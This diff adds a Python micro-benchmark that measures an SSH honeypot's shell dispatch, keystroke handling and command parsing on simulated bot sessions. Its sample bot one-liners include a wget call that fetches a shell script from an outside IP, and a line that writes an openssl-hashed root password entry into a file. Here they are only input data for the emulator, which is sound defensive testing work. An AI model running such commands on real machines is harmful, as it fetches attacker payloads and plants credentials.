@@ -0,0 +1,183 @@
+""" Micro-benchmark of the shell loop and command dispatch, without SSH in the way.
+
+Scenarios:
+    dispatch    Every registered command and variable handler called directly.
+    keystrokes  A script typed one byte per read, the way an interactive client sends it.
+    bot         A bot script sent one line per read.
+    paste       The same script pasted at once, split into reads of CHUNK_SIZE bytes.
+    parse       The command line parser alone, on every line of the one-liner script.
+    script      A large pasted script of bot one-liners with sequences, conditions, pipes and redirections.
+
+The shell runs against an in-process fake channel, so latencies are the shell's own. Writes go
+to a started persistence writer in a temporary env directory, as they do in the server. The
+response cache is off unless --cache-entries is given.
+
+Usage: python3 -m benchmarks.shell_dispatch -n 200 [--cache-entries 1024]
+"""
+import argparse
+import tempfile
+import time
+from benchmarks.fake_channel import FakeChannel
+
+SCENARIOS = ("dispatch", "keystrokes", "bot", "paste", "parse", "script")
+
+# Recon commands as seen from bots, including ones the honeypot does not know.
+BOT_SCRIPT = (
+    "uname -a", "whoami", "id", "cat /proc/cpuinfo", "ps", "uptime", "df", "hostname",
+    "echo ok", "$PATH", "$SHELL", "date", "who", "pwd", "help", "passwd",
+)
+
+# Chained recon as bots paste it, repeated into a script of a few hundred lines.
+ONE_LINERS = (
+    "uname -a; cat /proc/cpuinfo | grep name | head -n 1 && wget http://203.0.113.7/x.sh -O- 2>/dev/null || echo fail",
+    "cd /tmp || cd /var/run || cd /mnt; echo \"root:$(openssl passwd -1 x)\" > .p; whoami && hostname",
+    "ps | grep -v grep | grep -c zsh; df | head -n 2 | wc -l; uptime >/dev/null 2>&1 & echo started",
+    "$PATH; $SHELL; pwd && who | wc -l; help | grep -i print | head -3",
+)
+SCRIPT_REPEAT = 100
+
+
+def percentile(values: list, fraction: float) -> float:
+    if not values:
+        return 0.0
+    values = sorted(values)
+    return values[min(int(len(values) * fraction), len(values) - 1)]
+
+
+def create_server(env_directory: str, persistence):
+    import ssh
+
+    server = ssh.Server(client_ip="127.0.0.1", input_password="benchmark", hostname="honeydew", env_directory=env_directory, persistence=persistence)
+    server.client_user = "root"
+    return server
+
+
+def script_chunks(scenario: str, script) -> list:
+    lines = [f"{line}\r".encode() for line in script]
+    if scenario == "keystrokes":
+        return [line[index:index + 1] for line in lines for index in range(len(line))]
+    if scenario == "bot":
+        return lines
+    return [b"".join(lines)]
+
+
+def run_shell(scenario: str, sessions: int, env_directory: str, persistence) -> dict:
+    from ssh.handlers import shell_handle
+
+    script = ONE_LINERS * SCRIPT_REPEAT if scenario == "script" else BOT_SCRIPT
+    latencies = {}
+    elapsed = 0.0
+    bytes_received = bytes_sent = lines = 0
+    for _ in range(sessions):
+        channel = FakeChannel(script_chunks(scenario, script))
+        server = create_server(env_directory, persistence)
+        started = time.perf_counter()
+        shell_handle(channel, server=server, client_ip=server.client_ip)
+        elapsed += time.perf_counter() - started
+        bytes_received += channel.bytes_received
+        bytes_sent += channel.bytes_sent
+        lines += len(script)
+
+        # A command is dispatched by the read that carries its line ending.
+        pending = iter(script)
+        for chunk, seconds in channel.timings:
+            if scenario in ("paste", "script"):
+                latencies.setdefault("(paste chunk)", []).append(seconds)
+            elif chunk.endswith(b"\r"):
+                latencies.setdefault(next(pending).split(" ")[0], []).append(seconds)
+
+    return {
+        "scenario": scenario,
+        "latencies": latencies,
+        "lines_per_second": lines / elapsed,
+        "received_per_second": bytes_received / elapsed,
+        "sent_per_second": bytes_sent / elapsed,
+    }
+
+
+def run_dispatch(calls: int, env_directory: str, persistence) -> dict:
+    from ssh.commands import command_registry
+    from ssh.variables import variable_registry
+
+    server = create_server(env_directory, persistence)
+    handlers = [(name, handle, name) for name, (handle, _) in command_registry.items()]
+    handlers += [(f"${name}", handle, name) for name, (handle, _) in variable_registry.items()]
+    latencies = {}
+    elapsed = 0.0
+    bytes_sent = 0
+    for name, handle, argument in handlers:
+        for _ in range(calls):
+            started = time.perf_counter()
+            response = handle(server, argument)
+            seconds = time.perf_counter() - started
+            latencies.setdefault(name, []).append(seconds)
+            elapsed += seconds
+            bytes_sent += len(response) if isinstance(response, (bytes, str)) else 0
+
+    return {
+        "scenario": "dispatch",
+        "latencies": latencies,
+        "lines_per_second": calls * len(handlers) / elapsed,
+        "received_per_second": 0.0,
+        "sent_per_second": bytes_sent / elapsed,
+    }
+
+
+def run_parse(calls: int) -> dict:
+    from ssh.parser import parse
+
+    latencies = {}
+    elapsed = 0.0
+    bytes_received = 0
+    for index, line in enumerate(ONE_LINERS):
+        for _ in range(calls):
+            started = time.perf_counter()
+            parse(line)
+            seconds = time.perf_counter() - started
+            latencies.setdefault(f"one-liner {index + 1}", []).append(seconds)
+            elapsed += seconds
+        bytes_received += len(line) * calls
+
+    return {
+        "scenario": "parse",
+        "latencies": latencies,
+        "lines_per_second": calls * len(ONE_LINERS) / elapsed,
+        "received_per_second": bytes_received / elapsed,
+        "sent_per_second": 0.0,
+    }
+
+
+if __name__ == "__main__":
+    parser = argparse.ArgumentParser()
+    parser.add_argument('-n', '--sessions', type=int, default=200, help="Sessions per shell scenario, calls per handler for dispatch and per one-liner for parse.")
+    parser.add_argument('--scenarios', type=str, nargs='+', choices=SCENARIOS, default=list(SCENARIOS))
+    parser.add_argument('--cache-entries', type=int, default=0, help="Size of the response cache of the shell scenarios, 0 runs every handler.")
+    args = parser.parse_args()
+
+    from honeypot.persistence import PersistenceWriter
+    from honeypot.response_cache import ResponseCache
+    from honeypot.storage import create_storage
+    from ssh.dispatch import DISPATCHER
+
+    with tempfile.TemporaryDirectory() as env_directory:
+        storage = create_storage("journal", env_directory)
+        persistence = PersistenceWriter(storage)
+        persistence.start()
+        try:
+            for scenario in args.scenarios:
+                if scenario == "dispatch":
+                    result = run_dispatch(args.sessions, env_directory, persistence)
+                elif scenario == "parse":
+                    result = run_parse(args.sessions)
+                else:
+                    DISPATCHER.cache = ResponseCache(args.cache_entries)
+                    result = run_shell(scenario, args.sessions, env_directory, persistence)
+                    if DISPATCHER.cache.enabled:
+                        print(f"    response cache: {DISPATCHER.cache.stats()}")
+                print(f"{result['scenario']}: {result['lines_per_second']:.0f} lines/s, "
+                      f"{result['received_per_second'] / 1024:.1f} KiB/s in, {result['sent_per_second'] / 1024:.1f} KiB/s out")
+                for name, latencies in result["latencies"].items():
+                    print(f"    {name:<16} {len(latencies):6d} calls p50={percentile(latencies, 0.50) * 1e6:8.1f}us p99={percentile(latencies, 0.99) * 1e6:8.1f}us")
+        finally:
+            persistence.stop()
+            storage.close()